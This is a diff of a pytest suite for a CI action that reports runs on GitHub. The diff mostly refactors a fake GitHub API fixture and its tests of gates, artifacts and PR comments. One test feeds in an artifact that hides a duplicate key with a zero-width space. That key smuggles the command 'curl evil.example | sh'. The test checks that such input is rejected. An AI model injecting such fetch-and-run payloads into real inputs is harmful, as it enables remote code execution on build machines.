@@ -17,7 +17,7 @@ from jsonschema import Draft202012Validator
 
 from mogplex_ci.emulator import Emulator
 from mogplex_ci.inputs.declared import load_schema
-from tests.github_api import APP, TOKEN, FakeGitHub, Fault, Look, check
+from tests.github import BOT, NOTHING, TOKEN, Fault, GitHub, Look, Work, check
 from tests.github_log import read_log
 from tests.oracles.github_markdown import rendered
 from tests.program import Ended, GitHubStep
@@ -29,26 +29,25 @@ PASSED = check("test", "success")
 
 
 @pytest.fixture
-def api() -> Iterator[FakeGitHub]:
-    with FakeGitHub() as api:
-        api.add_pull_request(42)
-        api.files = [{"filename": "src/login.tsx"}]
-        api.looks = [Look([PASSED])]
+def api() -> Iterator[GitHub]:
+    with GitHub() as api:
         yield api
 
 
 class Job:
-    """A step against an emulator and the stand-in."""
+    """A step against an emulator and the stand-in, in which its run does its ``work``."""
+
+    work = Work(checks=Look([PASSED]))
 
     def __init__(
-        self, folder: Path, api: FakeGitHub, scenario: str | Path = "success", **env: str
+        self, folder: Path, api: GitHub, scenario: str | Path = "success", **env: str
     ) -> None:
         self.folder, self.api, self.scenario, self.env = folder, api, scenario, env
         self.step: GitHubStep
 
     def against(self, emulator: Emulator, **inputs: str) -> GitHubStep:
         given = {name.replace("_", "-"): value for name, value in inputs.items()}
-        self.api.watch(emulator)
+        self.api.works_for(emulator, self.work)
         known = {
             "prompt": "Fix it",
             "base-url": emulator.url,
@@ -94,7 +93,7 @@ def errors(ended: Ended) -> list[str]:
 
 
 def test_a_run_that_brings_everything_is_a_success_and_the_github_token_is_shown_nowhere(
-    tmp_path: Path, api: FakeGitHub
+    tmp_path: Path, api: GitHub
 ) -> None:
     job, paths = (
         Job(tmp_path, api),
@@ -115,13 +114,11 @@ def test_a_run_that_brings_everything_is_a_success_and_the_github_token_is_shown
 
 
 def test_a_gate_that_does_not_hold_rejects_the_run_and_is_told_everywhere(
-    tmp_path: Path, api: FakeGitHub
+    tmp_path: Path, api: GitHub
 ) -> None:
-    api.files = [
-        {"filename": "README.md"},
-        {"filename": "docs/new.md", "previous_filename": ".github/ci.yml"},
-    ]
     job = Job(tmp_path, api)
+    moved = {"docs/new.md": "on: push", ".github/ci.yml": None}
+    job.work = Work({"README.md": "changed", **moved})
     ended = job.run(require="change", allowed_paths="docs/**\n*.md", protected_paths=".github/")
     outputs = job.step.outputs
     assert (ended.code, outputs["result"], outputs["status"]) == (1, "rejected", "success"), (
@@ -151,14 +148,13 @@ def test_a_gate_that_does_not_hold_rejects_the_run_and_is_told_everywhere(
     ]
 
 
-NOTHING: dict[str, Any] = {"ahead_by": 0, "files": [], "pull_requests": []}
-RED = {"looks": [Look([PASSED, check("e2e", "failure", html_url="https://ci.example/2")])]}
-LINKED = NOTHING | {"files": [{"filename": ".ci"}]}
+RED = Work(checks=Look([PASSED, check("e2e", "failure", html_url="https://ci.example/2")]))
+LINKED = Work({".ci": "a link"}, opens_pull_request=False)
 NEEDS = "Give the job the permission contents: read"
 
 
 @pytest.mark.parametrize(
-    ("scenario", "github", "inputs", "code", "words"),
+    ("scenario", "work", "inputs", "code", "words"),
     [
         (
             "no-change",
@@ -169,14 +165,14 @@ NEEDS = "Give the job the permission contents: read"
         ),
         (
             "no-change",
-            {},
+            NOTHING,
             {"require": "change", "github_token": ""},
             "NO_CHANGE",
             "change: It changed nothing. ",
         ),
         (
             "success",
-            {},
+            Work(),
             {"artifact": "report"},
             "ARTIFACT_MISSING",
             "artifact: It committed no such artifact: ",
@@ -198,7 +194,7 @@ NEEDS = "Give the job the permission contents: read"
         ),
         (
             "success",
-            {"faults": [Fault(404, times=99)]},
+            None,
             {"protected_paths": ".ci"},
             "NOT_JUDGED",
             NEEDS,
@@ -207,15 +203,18 @@ NEEDS = "Give the job the permission contents: read"
 )
 def test_what_does_not_hold_has_a_code(
     scenario: str,
-    github: dict[str, Any],
+    work: Work | None,
     inputs: dict[str, str],
     code: str,
     words: str,
     tmp_path: Path,
-    api: FakeGitHub,
+    api: GitHub,
 ) -> None:
-    vars(api).update(github)
     job = Job(tmp_path, api, scenario)
+    if work is None:
+        api.faults = [Fault(404, times=99)]
+    else:
+        job.work = work
     ended = job.run(**inputs)
     assert (ended.code, job.step.outputs["result"], job.step.outputs["error-code"]) == (
         1,
@@ -227,7 +226,7 @@ def test_what_does_not_hold_has_a_code(
     assert "Expected: " in annotation
 
 
-def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: FakeGitHub) -> None:
+def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: GitHub) -> None:
     job = Job(tmp_path, api, ARTIFACT, MOGPLEX_DOTENV="mogplex.env")
     given(job, {"type": "object", "required": ["version"]})
     ended = job.run(artifact="report", artifact_schema="schema.json")
@@ -242,7 +241,7 @@ def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: FakeGitHu
     assert job.result["artifact_file"] == "artifact.json"
 
 
-def test_an_invalid_artifact_is_not_handed_on(tmp_path: Path, api: FakeGitHub) -> None:
+def test_an_invalid_artifact_is_not_handed_on(tmp_path: Path, api: GitHub) -> None:
     """Two keys would become one, and the second one win."""
     attack = '{"version": "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}'
     job = Job(tmp_path, api, scenario(tmp_path, attack))
@@ -257,7 +256,7 @@ def test_an_invalid_artifact_is_not_handed_on(tmp_path: Path, api: FakeGitHub) -
 
 
 def test_one_comment_tells_of_the_run_from_its_start_to_its_end(
-    tmp_path: Path, api: FakeGitHub
+    tmp_path: Path, api: GitHub
 ) -> None:
     job = Job(tmp_path, api, ARTIFACT)
     ended = job.run(comment_on="7")
@@ -284,7 +283,7 @@ def test_one_comment_tells_of_the_run_from_its_start_to_its_end(
     )
 
 
-def test_a_rerun_edits_the_comment_of_the_first_attempt(tmp_path: Path, api: FakeGitHub) -> None:
+def test_a_rerun_edits_the_comment_of_the_first_attempt(tmp_path: Path, api: GitHub) -> None:
     Job(tmp_path / "one", api, "failed").run(comment_on="7")
     assert "**Run failed**" in api.comments[0]["body"]
     Job(tmp_path / "two", api, "success", GITHUB_RUN_ATTEMPT="2").run(comment_on="7")
@@ -294,16 +293,14 @@ def test_a_rerun_edits_the_comment_of_the_first_attempt(tmp_path: Path, api: Fak
     assert len(api.comments) == 2
 
 
-def test_a_stranger_cannot_put_the_comment_there_beforehand(
-    tmp_path: Path, api: FakeGitHub
-) -> None:
+def test_a_stranger_cannot_put_the_comment_there_beforehand(tmp_path: Path, api: GitHub) -> None:
     """Not with a marker made of a key that is known, and not with a copy of the marker."""
     key = "known-to-everybody"
     digest = hashlib.sha256(key.encode()).hexdigest()[:32]
     forged = {
         "id": 1,
         "issue": 7,
-        "user": APP,
+        "user": BOT,
         "body": f"<!-- run-action key={digest} run={'0' * 32} -->\n",
     }
     api.comments.append(forged)
@@ -316,11 +313,12 @@ def test_a_stranger_cannot_put_the_comment_there_beforehand(
 
 
 def test_a_step_that_is_stopped_while_gates_judge_tells_what_is_known_of_the_run(
-    tmp_path: Path, api: FakeGitHub
+    tmp_path: Path, api: GitHub
 ) -> None:
-    api.looks = [Look([check("test", None)])]
+    job = Job(tmp_path, api)
+    job.work = Work(checks=Look([check("test", None)]))
     with Emulator("success", speed=50) as emulator:
-        step = Job(tmp_path, api).against(emulator, require="checks")
+        step = job.against(emulator, require="checks")
         with step.start() as process:
             wait_until(lambda: any("check" in asked.path for asked in api.asked), process)
             process.terminate()
@@ -339,7 +337,7 @@ def test_a_step_that_is_stopped_while_gates_judge_tells_what_is_known_of_the_run
 
 @pytest.mark.parametrize("refused", [False, True])
 def test_post_says_in_the_comment_that_the_step_was_killed(
-    tmp_path: Path, api: FakeGitHub, refused: bool
+    tmp_path: Path, api: GitHub, refused: bool
 ) -> None:
     with Emulator("slow", speed=1) as emulator:
         step = GitHubStep(
@@ -370,7 +368,7 @@ def test_post_says_in_the_comment_that_the_step_was_killed(
 
 
 def test_a_comment_that_was_written_without_an_answer_is_found_again(
-    tmp_path: Path, api: FakeGitHub
+    tmp_path: Path, api: GitHub
 ) -> None:
     api.fail(method="POST", status=502, is_done=True)
     assert Job(tmp_path, api).run(comment_on="7").code == 0
@@ -378,13 +376,13 @@ def test_a_comment_that_was_written_without_an_answer_is_found_again(
     assert "**Run succeeded**" in api.comments[0]["body"]
 
 
-def test_without_a_run_there_is_no_comment(tmp_path: Path, api: FakeGitHub) -> None:
+def test_without_a_run_there_is_no_comment(tmp_path: Path, api: GitHub) -> None:
     job = Job(tmp_path, api)
     assert job.run(comment_on="7", repo="acme/none").code == 2
     assert (job.step.outputs.get("run-id", ""), api.asked, api.comments) == ("", [], [])
 
 
-def test_failing_to_comment_is_a_warning_only(tmp_path: Path, api: FakeGitHub) -> None:
+def test_failing_to_comment_is_a_warning_only(tmp_path: Path, api: GitHub) -> None:
     api.fail(status=403, times=99)
     job = Job(tmp_path, api)
     ended = job.run(comment_on="7")
@@ -395,7 +393,7 @@ def test_failing_to_comment_is_a_warning_only(tmp_path: Path, api: FakeGitHub) -
 
 
 def test_the_job_that_waits_for_a_run_edits_the_comment_of_the_job_that_started_it(
-    tmp_path: Path, api: FakeGitHub
+    tmp_path: Path, api: GitHub
 ) -> None:
     env = {"GITHUB_API_URL": api.url}
     with Emulator("success", speed=20) as emulator:
